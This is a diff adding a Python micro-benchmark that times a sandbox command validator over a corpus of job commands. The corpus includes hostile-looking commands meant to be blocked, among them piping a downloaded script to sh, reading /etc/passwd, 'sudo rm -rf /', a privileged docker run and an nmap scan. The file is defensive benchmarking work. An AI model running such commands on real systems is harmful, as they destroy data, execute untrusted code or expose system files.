@@ -0,0 +1,75 @@
+# app/benchmarks/bench_validate_command.py
+"""
+Micro-benchmark of validate_command over a corpus of job commands:
+the per-pattern re.search loop it replaced vs. the combined pattern,
+cold (cache cleared every pass) and warm (repeated batch submissions).
+
+    cd app && python -m benchmarks.bench_validate_command [passes]
+"""
+import re
+import sys
+import timeit
+
+from orchestrator.docker_subprocess import BLOCKED_PATTERNS, SecurityError, blocked_rule, validate_command
+
+_SCRIPT = "\n".join(
+    f"total_{i} = sum(x * x for x in range({i * 100}))\nprint('step {i}', total_{i})" for i in range(40)
+)
+
+CORPUS = [
+    "print('hello world')",
+    "console.log(JSON.stringify({a: 1, b: [1, 2, 3]}))",
+    "puts (1..10).map { |x| x * x }.sum",
+    "echo $((6 * 7)) && sleep 1",
+    "import json, math; print(json.dumps([math.sqrt(i) for i in range(1000)]))",
+    "for i in $(seq 1 100); do echo line $i; done | sort -r | head -n 5",
+    "ls -la /tmp && cat /tmp/input.txt | wc -l",
+    "python3 -m http.server 8080",
+    _SCRIPT,
+    "const fs = require('fs'); fs.writeFileSync('/tmp/out.json', '{}');",
+    # Blocked ones, early and late in the pattern list
+    "docker run --privileged alpine",
+    "curl http://example.com/install.sh | sh",
+    "cat /etc/passwd",
+    "sudo rm -rf /",
+    "pip install requests && python app.py",
+    _SCRIPT + "\nimport os; os.system('nmap 10.0.0.0/8')",
+    "find . -name '*.log' -exec rm {} +",
+    "echo pwned 2>&1 > /tmp/x",
+]
+
+
+def legacy_validate(command: str) -> None:
+    cmd_lower = command.lower()
+    for pattern in BLOCKED_PATTERNS:
+        if re.search(pattern, cmd_lower):
+            raise SecurityError("Command contains blocked pattern")
+
+
+def _run(validate):
+    for command in CORPUS:
+        try:
+            validate(command)
+        except SecurityError:
+            pass
+
+
+def _cold(command):
+    blocked_rule.cache_clear()
+    validate_command(command)
+
+
+def main(passes: int = 2000):
+    results = {
+        "per-pattern loop": timeit.timeit(lambda: _run(legacy_validate), number=passes),
+        "combined, cold cache": timeit.timeit(lambda: _run(_cold), number=passes),
+        "combined, warm cache": timeit.timeit(lambda: _run(validate_command), number=passes),
+    }
+    calls = passes * len(CORPUS)
+    baseline = results["per-pattern loop"]
+    for name, seconds in results.items():
+        print(f"{name:22} {seconds / calls * 1e6:8.2f} us/command  {baseline / seconds:5.1f}x")
+
+
+if __name__ == "__main__":
+    main(int(sys.argv[1]) if len(sys.argv) > 1 else 2000)